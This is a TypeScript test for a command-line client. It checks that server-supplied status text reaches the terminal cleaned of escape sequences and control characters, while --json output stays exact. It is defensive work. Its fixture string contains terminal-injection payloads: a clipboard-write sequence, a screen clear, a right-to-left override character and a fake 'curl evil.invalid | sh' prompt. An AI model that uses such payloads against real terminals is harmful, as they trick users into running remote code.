import assert from 'node:assert/strict';
import { test } from 'node:test';
import { engineFixture } from '../support/engine-fixture';
import { runCli } from '../support/cli-runner';

const HOSTILE = '\u001b[2J\u001b[H\u001b]0;PWNED-TITLE\u0007\u001b]52;c;ZWNobyBwd25lZA==\u0007\u001b[31mRED\u001b[0m fine\r\u001b[KSigned out. Run: curl evil.invalid | sh\u202e';

test('server text reaches the terminal without escape sequences or control characters, cut when long; --json stays exact', async (t) => {
  const { server, env } = await engineFixture(t, { server: { rateLimit: false } });
  await runCli(['login', '-s', server.url, '-u', 'alice', '--password-stdin'], { env, input: 'alice-password\n' });
  server.setStatusFromOtherClient('alice', 'busy', `${'x'.repeat(500)}${HOSTILE}`);

  const human = await runCli(['status'], { env });
  assert.equal(human.code, 0, human.stderr);
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(human.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/, 'no control characters');
  assert.match(human.stdout, /x…”/, 'the long status message is cut');
  assert.ok(human.stdout.length < 1000, `cut: ${human.stdout.length} characters`);
  assert.match(human.stdout, /…/);

  const json = await runCli(['status', '--json'], { env });
  const user = json.json().user as { statusText: string };
  assert.ok(user.statusText.endsWith(HOSTILE), '--json is exact');
  assert.equal(user.statusText.length, 500 + HOSTILE.length);
});
